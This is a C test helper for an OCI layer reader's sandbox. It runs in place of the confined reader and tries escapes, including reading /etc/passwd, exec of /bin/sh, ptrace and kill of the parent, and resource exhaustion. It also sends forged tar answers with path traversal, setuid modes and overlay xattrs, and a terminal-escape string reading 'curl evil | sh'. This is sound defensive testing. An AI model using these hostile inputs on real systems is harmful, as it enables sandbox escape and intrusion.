/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a layer's reader can still do once a layer has taken it over, for tests/cases/sandbox.sh:
 * runs in the place of snap-reader (SNAP_READER), confines itself in the same way, and then does
 * what its own name says. What it finds out comes back as the failure that it tells.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <unistd.h>

#include "base/cleanup.h"
#include "base/io.h"
#include "base/sandbox.h"
#include "oci/reader.h"
#include "oci/reader_wire.h"

static struct oci_reader reader;
static char open_fds[200];

static _Noreturn void say(const char *text)
{
	struct err err = ERR_INIT;

	(void)err_msg(&err, -EBADMSG, "evil: %s", text);
	oci_reader_fail(&err);
	_exit(0);
}

static _Noreturn void say_result(const char *what, bool done)
{
	char text[100];

	(void)snprintf(text, sizeof(text), "%s: %s", what, done ? "done" : err_name(errno));
	say(text);
}

static void find_fds(void)
{
	size_t len = 0;

	for (int fd = 0; fd < 4096 && len + 8 < sizeof(open_fds); fd++) {
		if (fcntl(fd, F_GETFD) >= 0)
			len += (size_t)snprintf(open_fds + len, sizeof(open_fds) - len, " %d", fd);
	}
}

static void try_open(void)
{
	say_result("open", open("/etc/passwd", O_RDONLY) >= 0);
}
static void try_create(void)
{
	say_result("create", open("evil.made", O_WRONLY | O_CREAT, 0600) >= 0);
}
static void try_socket(void)
{
	say_result("socket", socket(AF_INET, SOCK_STREAM, 0) >= 0);
}
static void try_kill(void)
{
	say_result("kill", kill(getppid(), SIGKILL) == 0);
}
static void try_ptrace(void)
{
	say_result("ptrace", ptrace(PTRACE_ATTACH, getppid(), NULL, NULL) == 0);
}
static void try_exec(void)
{
	char *argv[] = {(char *)(uintptr_t) "sh", NULL};

	(void)execve("/bin/sh", argv, NULL);
	say_result("exec", false);
}
static void try_fork(void)
{
	say_result("fork", fork() >= 0);
}
static void try_code(void)
{
	say_result("code", mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
				MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) != MAP_FAILED);
}
static void try_input(void)
{
	void *in = (void *)(uintptr_t)reader.in;

	say_result("input", mprotect(in, 4096, PROT_READ | PROT_WRITE) == 0);
}
static void try_shrink(void)
{
	say_result("shrink", ftruncate(READER_OUT, 0) == 0);
}
static void try_stdout(void)
{
	say_result("stdout", write(STDOUT_FILENO, "evil", 4) == 4);
}
static void try_memory(void)
{
	size_t got = 0;

	while (got < (2UL << 30)) {
		char *p = malloc(1 << 20);

		if (!p)
			say("memory: ended");
		memset(p, 1, 1 << 20);
		got += 1 << 20;
	}
	say("memory: no end");
}
static void crash(void)
{
	*(volatile unsigned char *)(uintptr_t)reader.in = 1; /* it can only be read */
}
static void leave(void)
{
	_exit(0);
}
static void hang(void)
{
	char c;

	while (read(READER_SOCK, &c, 1) > 0)
		;
	for (;;)
		(void)madvise(NULL, 0, 0);
}
static void tell_fds(void)
{
	say(open_fds);
}
static void garbage(void)
{
	char noise[4096];

	memset(noise, 0xa5, sizeof(noise));
	say_result("garbage", io_write_full(READER_SOCK, noise, sizeof(noise)) == 0);
}
static void terminal(void)
{
	say("\033[2J\033]0;owned\007 run curl evil | sh");
}

static void put(const void *data, size_t len)
{
	if (io_write_full(READER_SOCK, data, len) < 0)
		_exit(1);
}

/* The tar as it is, of one slot, with a member told before that it has not. */
static void lie(const struct oci_tar_member *m)
{
	struct strbuf text = STRBUF_INIT;
	struct reader_answer a = {.type = READER_TAR}, end = {.type = READER_END};
	struct reader_start start;
	struct reader_order order;

	if (io_read_full(READER_SOCK, &start, sizeof(start)) < 0 ||
	    io_read_full(READER_SOCK, &order, sizeof(order)) < 0 || order.n > READER_OUT_SIZE)
		_exit(1);
	memcpy(reader.out, reader.in, order.n);
	a.n = order.n;
	if (m && reader_put_member(&text, m) < 0)
		_exit(1);
	put(text.s, text.len);
	put(&a, sizeof(a));
	put(&end, sizeof(end));
	for (char c; read(READER_SOCK, &c, 1) > 0;)
		;
}

static const struct oci_tar_member file = {
	.type = OCI_TAR_REG, .path = "lie", .link = "", .mode = 04755, .size = 10, .data = 512};

static void lie_xattr(void)
{
	struct oci_pax_xattr x = {.name = (char *)(uintptr_t) "trusted.overlay.opaque",
				  .value = (char *)(uintptr_t) "y",
				  .len = 1};
	struct oci_tar_member m = {
		.type = OCI_TAR_DIR, .path = "lie", .link = "", .mode = 0755, .xattrs = &x};

	lie(&m);
}
static void lie_beyond(void)
{
	struct oci_tar_member m = file;

	m.data = 1 << 20;
	lie(&m);
}
static void lie_path(void)
{
	struct oci_tar_member m = file;

	m.path = "../../lie";
	m.data = 0;
	lie(&m);
}
static void lie_uid(void)
{
	struct oci_tar_member m = file;

	m.uid = UINT32_MAX;
	lie(&m);
}
/* Other bytes than the blob has, and after they were told of. */
static void lie_bytes(void)
{
	struct reader_answer a = {.type = READER_TAR, .n = 1024}, end = {.type = READER_END};

	memset(reader.out, 'x', 1024);
	put(&a, sizeof(a));
	put(&end, sizeof(end));
	for (char c; read(READER_SOCK, &c, 1) > 0;)
		;
}
static void lie_slots(void)
{
	struct reader_answer a = {.type = READER_INPUT_DONE, .n = 1000};

	put(&a, sizeof(a));
	leave();
}
static void lie_length(void)
{
	struct reader_answer a = {.type = READER_TAR, .n = READER_OUT_SIZE + 1};

	put(&a, sizeof(a));
	leave();
}
static void lie_endless(void)
{
	struct reader_answer a = {.type = READER_MEMBER, .n = UINT32_MAX};

	put(&a, sizeof(a));
	leave();
}

static const struct {
	const char *name;
	void (*run)(void);
} deeds[] = {
	{"open", try_open},
	{"create", try_create},
	{"socket", try_socket},
	{"kill", try_kill},
	{"ptrace", try_ptrace},
	{"exec", try_exec},
	{"fork", try_fork},
	{"code", try_code},
	{"input", try_input},
	{"shrink", try_shrink},
	{"stdout", try_stdout},
	{"memory", try_memory},
	{"crash", crash},
	{"leave", leave},
	{"hang", hang},
	{"fds", tell_fds},
	{"garbage", garbage},
	{"terminal", terminal},
	{"lie-xattr", lie_xattr},
	{"lie-beyond", lie_beyond},
	{"lie-path", lie_path},
	{"lie-uid", lie_uid},
	{"lie-bytes", lie_bytes},
	{"lie-slots", lie_slots},
	{"lie-length", lie_length},
	{"lie-endless", lie_endless},
};

int main(int argc, char **argv)
{
	const char *path = (const char *)getauxval(AT_EXECFN), /* NOLINT: that is what it is */
		*name = strrchr(path, '/') + 1;
	struct err err = ERR_INIT;

	sandbox_close_others(READER_SOCK, READER_OUT);
	find_fds();
	if (oci_reader_open(&reader, &err) < 0 ||
	    (!(argc > 1 && strcmp(argv[1], "unconfined") == 0) &&
	     sandbox_enter(READER_SOCK, READER_MEMORY, &err) < 0))
		say(err.msg);
	for (size_t i = 0; i < sizeof(deeds) / sizeof(deeds[0]); i++) {
		if (strcmp(deeds[i].name, name) == 0)
			deeds[i].run();
	}
	say("no such deed");
}
